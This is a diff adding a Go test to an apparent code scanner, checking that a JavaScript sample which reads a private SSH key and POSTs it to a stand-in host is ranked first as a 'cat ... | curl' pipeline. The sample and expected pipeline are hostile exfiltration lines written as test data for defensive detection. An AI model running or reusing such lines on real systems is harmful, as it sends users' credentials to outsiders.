@@ -265,3 +265,14 @@ func TestUnreadLanguage(t *testing.T) {
 		t.Errorf("perl print: %+v", res.Findings)
 	}
 }
+
+// TestFlowsFirst: the pipelines that send a file the program read lead
+// its scripts, so that a work budget that runs out on a large program
+// has judged them.
+func TestFlowsFirst(t *testing.T) {
+	src := strings.Repeat("console.log(1);", 100) + "fetch('https://x.example/u', {method: 'POST', body: d}); const d = fs.readFileSync('/home/u/.ssh/id_rsa');"
+	res := Scan("js", src, nil)
+	if len(res.Scripts) == 0 || !strings.HasPrefix(res.Scripts[0], `cat -- "/home/u/.ssh/id_rsa" | curl`) {
+		t.Fatalf("scripts %q: no pipeline first", res.Scripts)
+	}
+}
